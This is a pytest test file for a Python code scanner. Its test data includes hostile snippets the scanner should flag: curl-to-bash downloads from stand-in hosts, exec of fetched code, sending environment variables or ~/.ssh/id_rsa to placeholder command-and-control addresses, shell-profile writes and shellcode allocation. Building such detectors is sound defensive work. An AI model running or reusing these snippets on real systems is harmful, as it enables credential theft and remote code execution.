"""The Python scanner: names resolved through imports, strings folded, calls judged."""

from __future__ import annotations

import pytest

from tests.knowledge.scan.helpers import rules, scan

DANGEROUS = {
    "import_module concat": (
        "import importlib\nm = importlib.import_module('o' + 's')\nm.system('id')\n",
        "python-dynamic-import",
    ),
    "__import__ join": (
        "m = __import__(''.join(['s','u','b','p','r','o','c','e','s','s']))\n",
        "python-dynamic-import",
    ),
    "reversed string": ("mod = __import__('so'[::-1])\n", "python-dynamic-import"),
    "chr list": (
        "n = ''.join(chr(c) for c in [111, 115])\nm = __import__(n)\n",
        "python-dynamic-import",
    ),
    "f-string": ("a = 'o'\nm = __import__(f'{a}s')\n", "python-dynamic-import"),
    "getattr": ("import os\ngetattr(os, 'sys' + 'tem')('id')\n", "python-getattr-obfuscation"),
    "exec b64": ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "python-dynamic-code"),
    "exec zlib alias": (
        "from zlib import decompress as d\nfrom base64 import b64decode as b\nexec(d(b(blob)))\n",
        "python-dynamic-code",
    ),
    "eval codecs": (
        "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
        "python-dynamic-code",
    ),
    "exec download": (
        "import urllib.request\ncode = urllib.request.urlopen('https://x.example.invalid/p').read()\nexec(code)\n",
        "python-runs-download",
    ),
    "exec requests": (
        "import requests\nexec(requests.get('https://x.example.invalid/p').text)\n",
        "python-runs-download",
    ),
    "os.system pipe": (
        "import os\nos.system('curl -s https://x.example.invalid/i | bash')\n",
        "remote-code",
    ),
    "subprocess shell": (
        "import subprocess\n"
        "subprocess.run('wget -qO- https://x.example.invalid | sh', shell=True)\n",
        "remote-code",
    ),
    "subprocess argv": (
        "import subprocess\nsubprocess.call(['bash', '-c', 'echo aGk= | base64 -d | bash'])\n",
        "decoded-code",
    ),
    "command variable": (
        "import os\ncmd = 'curl -s https://x.example.invalid | sh'\nos.system(cmd)\n",
        "remote-code",
    ),
    "exfil env": (
        "import os, requests\nrequests.post('https://c2.example.invalid', json=dict(os.environ))\n",
        "exfiltration",
    ),
    "exfil key": (
        "import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "s = socket.create_connection(('203.0.113.8', 443))\ns.sendall(key.encode())\n",
        "exfiltration",
    ),
    "bashrc write": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
        "writes-outside",
    ),
    "pathlib write": (
        "from pathlib import Path\n(Path.home() / '.zshrc').write_text('curl x | sh')\n",
        "writes-outside",
    ),
    "pickle download": (
        "import pickle, requests\npickle.loads(requests.get('https://x.example.invalid/m').content)\n",
        "python-unpickle-download",
    ),
    "download chmod": (
        "import os, urllib.request\n"
        "urllib.request.urlretrieve('https://x.example.invalid/b', 'b')\n"
        "os.chmod('b', 0o755)\n",
        "download-and-run",
    ),
    "builtins subscript": (
        "import builtins\nvars(builtins)['ev' + 'al']('1')\n",
        "python-string-building",
    ),
    "ctypes shellcode": (
        "import ctypes, base64\nsc = base64.b64decode('kJCQ')\n"
        "ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n",
        "python-ctypes",
    ),
}

CLEAN = [
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n",
    "import subprocess, sys\nfor tool in ('pdftotext', 'pdfinfo'):\n"
    "    subprocess.run([tool, sys.argv[1]], check=True)\n",
    "import requests\nr = requests.get('https://api.github.com/repos/a/b', timeout=10)\n"
    "print(r.json())\n",
    "import os, requests\nh = {'Authorization': 'Bearer ' + os.environ['API_TOKEN']}\n"
    "requests.post('https://api.example.com/v1/items', headers=h, json={'a': 1})\n",
    "import csv, sys\nwith open(sys.argv[1]) as f:\n    rows = list(csv.DictReader(f))\n"
    "with open('clean.csv', 'w') as out:\n    out.write(str(len(rows)))\n",
    "import json\nfrom pathlib import Path\ndata = json.loads(Path('config.json').read_text())\n",
    "import ast\nprint(ast.literal_eval('[1, 2]'))\n",
    "import importlib\nyaml = importlib.import_module('yaml')\n",
]


@pytest.mark.parametrize("name", sorted(DANGEROUS))
def test_python_technique_is_dangerous(name: str) -> None:
    text, rule = DANGEROUS[name]
    report = scan("helper.py", text)
    assert report.verdict == "dangerous", report.reasons
    assert rule in rules(report, "dangerous"), report.reasons


@pytest.mark.parametrize("text", CLEAN)
def test_everyday_python_is_clean(text: str) -> None:
    report = scan("tool.py", text)
    assert report.verdict == "clean", report.reasons


def test_python_that_does_not_parse_is_a_caution_and_still_read_by_regex() -> None:
    report = scan(
        "x.py", "def broken(:\n    os.system('curl -s https://pastebin.com/raw/abcd | sh')\n"
    )
    assert "python-unparsed" in rules(report, "caution")
    assert "paste-site" in rules(report, "dangerous")


def test_a_python_finding_names_its_file_and_line() -> None:
    report = scan("scripts/a.py", "import os\n\n\nos.system('echo aGk= | base64 -d | sh')\n")
    assert "scripts/a.py:4: runs decoded (hidden) code with sh" in report.reasons


def test_exec_of_a_literal_is_scanned_as_python() -> None:
    report = scan(
        "a.py", "exec(\"import os\\nos.system('curl -s https://x.example.invalid | sh')\")\n"
    )
    assert "remote-code" in rules(report)
